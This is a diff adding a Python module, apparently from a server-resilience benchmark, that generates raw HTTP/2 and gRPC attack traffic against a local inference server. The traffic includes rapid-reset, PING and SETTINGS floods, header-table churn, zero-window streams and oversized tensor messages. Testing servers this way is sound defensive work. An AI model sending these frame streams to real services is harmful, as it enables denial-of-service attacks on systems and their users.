@@ -1,0 +1,129 @@
+"""What attackers send over HTTP/2 and gRPC. Each function gives the pieces of one connection."""
+
+import struct
+from collections.abc import Callable, Iterator
+from functools import cache
+from itertools import count, repeat
+
+from tritonclient.grpc import service_pb2
+
+from benchmarks.attacks.target import LARGE, LARGE_ROWS, LARGE_SHAPE, VALUES
+from benchmarks.serving.connections import (
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    PING,
+    PREFACE,
+    RST_STREAM,
+    SETTINGS,
+    frame,
+)
+from benchmarks.serving.wire import GRPC_INFER
+
+_SERVICE = b"/inference.GRPCInferenceService/"
+_INITIAL_WINDOW_SIZE, _CANCEL = 4, 8
+_START = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW_SIZE, 2**20))
+_UNREAD = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW_SIZE, 0))
+_AT_ONCE = 100  # calls of a piece
+_FRAMES = 2000  # of a piece
+_TABLE_ENTRIES = 60  # of a header block
+_DATA_BYTES = 16 * 1024
+
+
+def crumbs() -> Iterator[bytes]:
+    yield _START + _headers(1, GRPC_INFER.encode()) + frame(DATA, 0, 1, b"\0" + (2**20).to_bytes(4, "big"))
+    yield from repeat(frame(DATA, 0, 1, b"x") * _FRAMES)
+
+
+def resets() -> Iterator[bytes]:
+    cancel = _CANCEL.to_bytes(4, "big")
+    return _calls(lambda stream: _headers(stream, GRPC_INFER.encode()) + frame(RST_STREAM, 0, stream, cancel))
+
+
+def pings() -> Iterator[bytes]:
+    yield _START
+    yield from repeat(frame(PING, 0, 0, bytes(8)) * _FRAMES)
+
+
+def settings() -> Iterator[bytes]:
+    yield _START
+    yield from repeat(frame(SETTINGS, 0, 0, b"") * _FRAMES)
+
+
+def header_tables() -> Iterator[bytes]:
+    """Header blocks that no cache knows, each with entries that replace all of the compression table."""
+    numbers = count()
+
+    def call(stream: int) -> bytes:
+        values = (b"%d" % next(numbers) for _ in range(_TABLE_ENTRIES))
+        entries = b"".join(b"\x40\x01a" + bytes((len(value),)) + value for value in values)
+        return _headers(stream, _SERVICE + b"ServerLive", entries) + _message(stream, b"")
+
+    return _calls(call)
+
+
+def unread_streams() -> Iterator[bytes]:
+    yield _UNREAD
+    yield from _calls(lambda stream: _headers(stream, _SERVICE + b"ServerMetadata") + _message(stream, b""), b"")
+
+
+def health_checks() -> Iterator[bytes]:
+    return _calls(lambda stream: _headers(stream, _SERVICE + b"ServerLive") + _message(stream, b""))
+
+
+def statistics() -> Iterator[bytes]:
+    return _calls(lambda stream: _headers(stream, _SERVICE + b"ModelStatistics") + _message(stream, b""))
+
+
+def malformed_requests() -> Iterator[bytes]:
+    return _calls(lambda stream: _headers(stream, GRPC_INFER.encode()) + _message(stream, b""))
+
+
+def empty_messages() -> Iterator[bytes]:
+    yield _START + _headers(1, _SERVICE + b"ModelStreamInfer")
+    yield from repeat(frame(DATA, 0, 1, _framed(b"") * 3000))
+
+
+def typed_values() -> Iterator[bytes]:
+    pieces = _typed_values()
+
+    def call(stream: int) -> bytes:
+        data = b"".join(frame(DATA, 0, stream, piece) for piece in pieces)
+        return _headers(stream, GRPC_INFER.encode()) + data + frame(DATA, END_STREAM, stream, b"")
+
+    return _calls(call, at_once=1)
+
+
+@cache
+def _typed_values() -> list[bytes]:
+    """A message in pieces for DATA."""
+    contents = {"fp32_contents": [0.5] * VALUES}
+    shape = [LARGE_ROWS, *LARGE_SHAPE]
+    tensor = service_pb2.ModelInferRequest.InferInputTensor(name="x", datatype="FP32", shape=shape, contents=contents)
+    content = _framed(service_pb2.ModelInferRequest(model_name=LARGE, inputs=[tensor]).SerializeToString())
+    return [content[at : at + _DATA_BYTES] for at in range(0, len(content), _DATA_BYTES)]
+
+
+def _calls(call: Callable[[int], bytes], start: bytes = _START, at_once: int = _AT_ONCE) -> Iterator[bytes]:
+    yield start
+    streams = count(1, 2)
+    while True:
+        yield b"".join(call(next(streams)) for _ in range(at_once))
+
+
+def _headers(stream: int, path: bytes, more: bytes = b"") -> bytes:
+    fields = (
+        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"),
+        (b"content-type", b"application/grpc"), (b"te", b"trailers"),
+    )  # fmt: skip
+    literal = (b"\0%c%b%c%b" % (len(name), name, len(value), value) for name, value in fields)
+    return frame(HEADERS, END_HEADERS, stream, b"".join(literal) + more)
+
+
+def _message(stream: int, content: bytes) -> bytes:
+    return frame(DATA, END_STREAM, stream, _framed(content))
+
+
+def _framed(content: bytes) -> bytes:
+    return b"\0" + len(content).to_bytes(4, "big") + content
